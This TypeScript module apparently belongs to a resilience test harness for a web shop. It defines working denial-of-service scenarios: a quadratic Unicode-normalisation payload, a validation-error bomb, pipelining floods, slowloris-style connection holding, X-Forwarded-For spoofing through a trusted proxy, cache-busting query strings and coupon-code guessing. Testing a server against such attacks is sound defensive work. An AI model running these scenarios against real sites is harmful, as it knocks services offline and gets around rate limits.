import { randomUUID } from 'node:crypto'
import { holdConnections, keepAsking } from './asking.ts'
import { type Attack, wire } from './attacker.ts'

const order = '/en/api/orders'

/** A letter with 110,000 combining marks of two alternating classes: normalising it takes quadratic time. */
const marks = JSON.stringify({ name: `a${'\u0301\u0316'.repeat(55_000)}` })
/** 8,000 invalid sizes. */
const issues = JSON.stringify({
  products: Array.from({ length: 40 }, () => ({ colors: [{ sizes: Array(200).fill({ size_id: 'x' }) }] })),
})

/** The attacked shop trusts X-Forwarded-For from this address. */
export const trustedProxy = '127.9.0.1'

/** Attacks from one or a few addresses. */
export const attacks = {
  'mark-bomb': (shop, signal) =>
    keepAsking(shop, signal, { connections: 4, next: () => wire('POST', order, marks) }),
  'issue-bomb': (shop, signal) =>
    keepAsking(shop, signal, { connections: 4, next: () => wire('POST', order, issues) }),
  pipelined: (shop, signal) =>
    holdConnections(shop, signal, 4, (socket) => {
      socket.pause()
      socket.write(wire('GET', '/en').repeat(1_000))
    }),
  'slow-readers': (shop, signal) =>
    holdConnections(shop, signal, 2_100, (socket) => {
      socket.pause()
      socket.write(wire('GET', '/en').repeat(60))
    }),
  'slow-writers': (shop, signal) =>
    holdConnections(shop, signal, 2_100, (socket) => {
      socket.write('GET / HTTP/1.1\r\nHost: sh')
      const bytes = setInterval(() => socket.write('o'), 500)
      socket.once('close', () => clearInterval(bytes))
    }),
  'half-open': (shop, signal) =>
    holdConnections(
      shop,
      signal,
      2_100,
      (socket) => socket.write('GET / HTTP/1.1\r\nHost: sh'),
      (at) => `127.0.1.${1 + (at % 10)}`,
    ),
  'slow-bodies': (shop, signal) =>
    holdConnections(
      shop,
      signal,
      2_100,
      (socket, at) => {
        const client = `2001:db8:1:${1 + (at % 3)}::1`
        const head = `POST /payments/webhook HTTP/1.1\r\nHost: shop.test\r\nX-Forwarded-For: ${client}\r\n`
        socket.resume().write(`${head}Content-Length: 60000\r\n\r\nx`)
      },
      () => trustedProxy,
    ),
  'query-strings': (shop, signal) => {
    const paths = ['/en/product/1?x=', '/en/shop?search=', '/en?utm_source=', '/en/blogs?search=']
    let at = 0
    const next = () => wire('GET', `${paths[at++ % paths.length]}${randomUUID()}`)
    return keepAsking(shop, signal, { connections: 10, rest: 200, next })
  },
  'picture-sizes': (shop, signal) => {
    let at = 0
    const next = () => wire('GET', shop.images[at++ % shop.images.length] ?? '/media/')
    return keepAsking(shop, signal, { connections: 50, next })
  },
  'limited-call': (shop, signal) =>
    keepAsking(shop, signal, {
      connections: 100,
      next: () => wire('GET', '/en/api/coupon?coupon_code=GUESS'),
    }),
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks
export const attackNames = Object.keys(attacks).filter((name): name is AttackName => name in attacks)
